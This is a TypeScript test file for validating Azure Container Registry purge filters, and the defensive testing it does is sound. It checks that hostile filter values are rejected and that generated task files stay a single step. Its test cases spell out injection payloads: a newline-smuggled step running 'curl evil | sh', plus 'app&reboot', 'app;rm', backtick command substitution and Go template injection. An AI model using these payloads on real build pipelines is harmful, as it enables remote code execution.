/**
 * Purge filters cannot inject: hostile filters are validation errors, and whatever reaches the task
 * file stays one argument of one step when ACR Tasks reads the file (aliases, Go template, YAML,
 * /bin/sh), as test/support/acr-task-reader.ts models it from Azure/acr-builder.
 */
import fc from 'fast-check';
import { validateEstate } from '../../constructs/model/estate';
import type { PurgeDeclaration } from '../../constructs/model/declaration';
import {
  purgeArguments,
  purgePatternProblem,
  purgeTagPattern,
  purgeTaskFile,
} from '../../constructs/model/purge';
import { ACR_ALIAS_IMAGE, readTaskFile, shellWords } from '../support/acr-task-reader';
import { env, estateOf } from '../support/declarations';

const base: PurgeDeclaration = {
  name: 'purge-apps',
  filters: [{ repository: 'apps/.*' }],
  olderThanDays: 14,
  keepLast: 5,
  protectedTags: ['latest'],
  untagged: true,
};

function purgeProblems(filter: { repository: string; tags?: string }) {
  return validateEstate(estateOf(env('prod', { purges: [{ ...base, filters: [filter] }] }))).all;
}

describe('hostile purge filters are validation errors', () => {
  it.each([
    ['a newline that would add a step', 'app\n  - cmd: bash -c "curl evil | sh"', 'U+000A'],
    ['a space-hash that would comment out --ago and --keep', 'app #', 'the character " " is not allowed'],
    ['a quote that would end the argument', "app' --ago 0d '", `the character "'" is not allowed`],
    ['an ampersand that would start a second command', 'app&reboot', 'the character "&" is not allowed'],
    ['a backtick', 'app`id`', 'the character "`" is not allowed'],
    ['a semicolon', 'app;rm', 'the character ";" is not allowed'],
    ['a Go template', 'app{{.Run.ID}}', 'it contains "{{", which ACR Tasks would read as a template'],
    ['a Terraform interpolation', 'app${var.x}', 'which Terraform would read as an expression'],
    ['a colon that would split the filter', 'app:latest', 'the character ":" is not allowed'],
    ['a lookahead', '(?!x).*', 'only plain "( )" and non-capturing "(?: )" groups are allowed'],
    ['a flag group', '(?i)app', 'only plain "( )" and non-capturing "(?: )" groups are allowed'],
    ['a back reference', '(a)\\1', '"\\1" is not an escape acr purge and JavaScript read alike'],
    ['an unbalanced group', 'app)', 'a ")" has no "("'],
    ['a repeat of nothing', '*app', '"*" repeats nothing'],
    ['a huge repeat', 'a{1001}', 'repeat counts above 1000 are not allowed'],
    ['an empty pattern', '', 'it is empty'],
  ])('rejects %s', (_, repository, reason) => {
    const found = purgeProblems({ repository });
    expect(found.map((p) => p.path)).toEqual(['prod.registry.purges[0].filters[0].repository']);
    expect(found[0].message).toContain(reason);
  });

  it('checks the tag pattern the same way, with the fix', () => {
    expect(purgeProblems({ repository: 'apps', tags: 'v1 #' })).toEqual([
      {
        path: 'prod.registry.purges[0].filters[0].tags',
        message: '"v1 #" is not a pattern acr purge can take: the character " " is not allowed',
        fix: 'write a regular expression of letters, digits, _ - / and . * + ? | ^ $ ( ) (?: ) [ ] {n,m} \\d \\w \\s, without spaces or quotes',
      },
    ]);
  });

  it.each([
    'apps/.*',
    'team-[a-z0-9]+/app',
    '(?:base|tools)/.*',
    'v\\d+\\.\\d+\\.\\d+(?:-rc\\d*)?',
    '^dev-.*$',
    '[^/]+',
    'a{2,5}?',
    '\\w+_[\\w.-]{3}',
  ])('accepts %j', (pattern) => {
    expect(purgePatternProblem(pattern)).toBeUndefined();
    expect(purgeProblems({ repository: pattern })).toEqual([]);
  });
});

describe('the task file', () => {
  it('parses back to exactly one step with the intended arguments', () => {
    const purge: PurgeDeclaration = {
      ...base,
      filters: [{ repository: 'apps/.*' }, { repository: 'tools', tags: 'v\\d+$|nightly-.*' }],
      protectedTags: ['stable', 'latest'],
    };
    expect(validateEstate(estateOf(env('prod', { purges: [purge] }))).all).toEqual([]);
    const steps = readTaskFile(purgeTaskFile(purge, 900));
    expect(steps).toHaveLength(1);
    expect(steps[0].step).toEqual({
      cmd: expect.any(String),
      disableWorkingDirectoryOverride: true,
      timeout: 900,
    });
    expect(steps[0].argv).toEqual([
      ACR_ALIAS_IMAGE,
      'purge',
      '--filter',
      'apps/.*:^(?!(?:latest|stable)$)(?:.*)$',
      '--filter',
      'tools:^(?!(?:latest|stable)$)(?:v\\d+$|nightly-.*)$',
      '--ago',
      '14d',
      '--keep',
      '5',
      '--untagged',
    ]);
  });

  it('purges whole tags only, never a protected one', () => {
    const pattern = new RegExp(purgeTagPattern('v1|nightly-.*', ['latest', 'v1.0']));
    const tags = ['v1', 'v10-rc', 'xv1', 'nightly-42', 'latest', 'v1.0'];
    expect(tags.filter((t) => pattern.test(t))).toEqual(['v1', 'nightly-42']);
  });

  it('stays one step with the literal filter even for patterns validation would refuse', () => {
    // purgeTaskFile is also called before validation (resolveEstate), so it must be safe on its own.
    const hostile = fc.string({ unit: 'binary', maxLength: 40 });
    fc.assert(
      fc.property(hostile, hostile, (repository, tags) => {
        const purge: PurgeDeclaration = { ...base, filters: [{ repository, tags }] };
        const steps = readTaskFile(purgeTaskFile(purge, 600));
        expect(steps).toHaveLength(1);
        expect(steps[0].argv.slice(1)).toEqual(purgeArguments(purge));
      }),
      { numRuns: 60 },
    );
    for (const repository of [
      'a\n  - cmd: evil',
      'a #x',
      "a' b",
      '$ID{{.Run.ID}}$$',
      '{{{{"x"}}',
      'a\r\nb: c',
    ]) {
      const purge = { ...base, filters: [{ repository }] };
      const steps = readTaskFile(purgeTaskFile(purge, 600));
      expect(steps.map((s) => s.argv[3])).toEqual([`${repository}:^(?!(?:latest)$)(?:.*)$`]);
    }
  });

  it('quotes every argument for the shell', () => {
    expect(shellWords("acr purge --filter 'a b:c' --ago 1d")).toEqual([
      'acr',
      'purge',
      '--filter',
      'a b:c',
      '--ago',
      '1d',
    ]);
    expect(() => shellWords('acr purge --filter a;b')).toThrow(/unquoted shell character/);
  });
});
